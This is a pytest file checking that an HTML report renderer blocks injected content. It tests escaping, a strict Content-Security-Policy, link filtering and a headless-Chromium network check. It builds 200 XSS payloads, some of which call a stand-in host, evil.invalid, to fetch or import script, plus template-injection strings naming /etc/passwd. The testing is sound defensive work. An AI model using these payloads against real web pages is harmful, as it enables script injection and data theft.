"""The page is closed to hostile text and to the network: its policy, its links, what Chromium does with it."""

from __future__ import annotations

import base64
import hashlib
import io
import re
import shutil
import subprocess
from dataclasses import replace
from pathlib import Path

import pytest
from PIL import Image as pil

from datakit.check.report import render_report
from datakit.check.report_data import CatalogRow, ClassRow, Picture, ReportData, TierRow
from datakit.image import Image

from .report_makers import Page, picture, report, words

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
ACTS = (
    "document.title='pw'+'ned'",
    "fetch('http://evil.invalid/'+1)",
    "alert(document.domain)",
    "import('//evil.invalid/a.js')",
)
FRAMES = """
<script>@</script>
</script><script>@</script>
</style><script>@</script>
</title><script>@</script>
<script\t>@</script\t>
\x00<scr\x00ipt>@</script>
\u202e<script>@</script>
\ud800<script>@</script>
<svg><script>@</script></svg>
<math><mtext><script>@</script>
<!--><script>@</script>-->
<![CDATA[<script>@</script>]]>
<template><script>@</script></template>
<noscript><p title="</noscript><script>@</script>">
<textarea></textarea><script>@</script>
</bdi></td></table><script>@</script>
</code></pre><script>@</script>
<iframe srcdoc='<script>@</script>'>
data:text/html,<script>@</script>
<use href='data:image/svg+xml,<svg onload=@>'/>
<foreignObject><body onload=@></foreignObject>
</svg><body onload=@>
"><img src=x onerror="@">
'><svg onload='@'>
" autofocus onfocus=@ x="
' onmouseover=@ '
` onclick=@ `
<details open ontoggle=@>
<animate onbegin=@ attributeName=x dur=1s>
<set attributeName=onload to=@>
<input onfocus=@ autofocus>
<marquee onstart=@>
<video><source onerror=@>
<audio src onerror=@>
<form action=//evil.invalid/><button autofocus onfocus=@>
javascript:@
<a href="javascript:@">x</a>
<a xlink:href='javascript:@'>
<img src=http://evil.invalid/@>
<image href=//evil.invalid/@ />
<SCRIPT SRC=//evil.invalid/@>
<link rel=stylesheet href=//evil.invalid/?@>
<style>@import '//evil.invalid/@'</style>
<meta http-equiv=refresh content='0;url=//evil.invalid/@'>
<base href=//evil.invalid/@>
<object data=//evil.invalid/@>
{{ ''.__class__ }}@
{% include '/etc/passwd' %}@
&lt;script&gt;@&lt;/script&gt;
&#60;script&#62;@&#60;/script&#62;
""".strip("\n").split("\n")
PAYLOADS = tuple(frame.replace("@", act) for frame in FRAMES for act in ACTS)
FLAGS = [
    *("--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-sync"),
    *("--disable-background-networking", "--disable-component-update"),
    *("--enable-logging=stderr", "--dump-dom", "--host-resolver-rules=MAP * ~NOTFOUND"),
]


def hostile() -> tuple[ReportData, list[str]]:
    """A report whose every text is the next payload, and the payloads it used; reports go on until all are used."""
    used: list[str] = []

    def word() -> str:
        used.append(PAYLOADS[len(used) % len(PAYLOADS)])
        return used[-1]

    return report(word, classes=40), used


def test_the_page_asks_for_nothing_from_outside() -> None:
    data = replace(
        report(), catalogs=(CatalogRow(title="birds", homepage="https://example.org/birds?a=1&b=2"),)
    )
    page = Page(render_report(data))
    links = []
    for tag, attributes in page.tags:
        for name, value in attributes.items():
            assert not name.startswith("on") and name not in ("style", "srcset", "action", "srcdoc", "ping")
            if name in ("src", "href", "xlink:href", "data", "poster"):
                assert value is not None
                if tag == "a" and value.startswith("http"):
                    links.append(value)
                else:
                    assert value.startswith(("data:", "#"))
    assert links == ["https://example.org/birds?a=1&b=2"]
    assert "url(" not in page.text["style"] and "@import" not in page.text["style"]


def test_the_policy_allows_our_own_style_and_script_by_hash_and_nothing_else() -> None:
    page = Page(render_report(report()))
    policy = next(a["content"] for t, a in page.tags if a.get("http-equiv") == "Content-Security-Policy")
    assert policy is not None and policy.startswith("default-src 'none'; img-src data:; ")
    assert "unsafe" not in policy and "http" not in policy
    for kind in ("style", "script"):
        digest = base64.b64encode(hashlib.sha256(page.text[kind].encode()).digest()).decode()
        assert f"{kind}-src 'sha256-{digest}'" in policy
        assert sum(tag == kind for tag, _ in page.tags) == 1


def test_200_payloads_change_no_tag_and_no_attribute() -> None:
    assert len(PAYLOADS) == len(set(PAYLOADS)) == 200
    data, used = hostile()
    assert set(used) == set(PAYLOADS)
    html = render_report(data)
    assert Page(html).shape == Page(render_report(report(classes=40))).shape
    for payload in PAYLOADS:
        if "<" in payload:
            assert payload not in html


def test_only_web_addresses_become_links() -> None:
    homes = (
        "javascript:alert(1)",
        "data:text/html,x",
        "//evil.invalid",
        "file:///etc/passwd",
        "http://[broken",
        "x",
    )
    page = render_report(
        ReportData(title="t", catalogs=tuple(CatalogRow(title="c", homepage=h) for h in homes))
    )
    assert not [a for t, a in Page(page).tags if t == "a" and not (a["href"] or "").startswith("#")]
    assert "javascript:alert(1)" in words(page)  # shown as text, not hidden


@pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed")
def test_chromium_runs_our_script_and_no_other(tmp_path: Path) -> None:
    page = tmp_path / "report.html"
    page.write_text(render_report(hostile()[0]), encoding="utf-8")
    files = (f"--user-data-dir={tmp_path / 'profile'}", f"--log-net-log={tmp_path / 'net.json'}")
    found = subprocess.run(
        [str(CHROMIUM), *FLAGS, *files, page.as_uri()],
        capture_output=True, text=True, timeout=120, check=True,
    )  # fmt: skip
    assert ">80 of 80</output>" in found.stdout  # our script counted the rows of the class table
    assert "pwned" not in found.stdout
    console = [line for line in found.stderr.splitlines() if "CONSOLE" in line]
    assert not console, console
    assert "evil.invalid" not in (tmp_path / "net.json").read_text(encoding="utf-8")


def test_thumbnails_are_ours_and_carry_nothing_of_the_file() -> None:
    exif = pil.Exif()
    exif[0x010E] = "<script>alert(1)</script> secret"
    target = io.BytesIO()
    pil.fromarray(picture(1, 64)).save(target, format="JPEG", exif=exif)
    data = ReportData(
        title="t",
        pictures=(Picture(image=Image(target.getvalue())),),
        tiers=(TierRow(name="near", pictures=(0,)),),
    )
    sprites = re.findall(r'href="data:image/webp;base64,([^"]+)"', render_report(data))
    assert sprites
    for sprite in sprites:
        raw = base64.b64decode(sprite)
        assert b"secret" not in raw and pil.open(io.BytesIO(raw)).format == "WEBP"


def test_names_of_any_script_and_length_stay_in_their_place() -> None:
    names = ("وردة" * 50, "名前" * 200, "\x1b[31mred\x07", "half \udc80 a pair", "a" * 5000)
    page = render_report(
        ReportData(title="t", classes=tuple(ClassRow(name=name, role="id") for name in names))
    )
    page.encode("utf-8")
    assert f"<bdi>{names[0]}</bdi>" in page and f"<bdi>{names[4]}</bdi>" in page
    assert "<bdi>\ufffd[31mred\ufffd</bdi>" in page and "<bdi>half \ufffd a pair</bdi>" in page
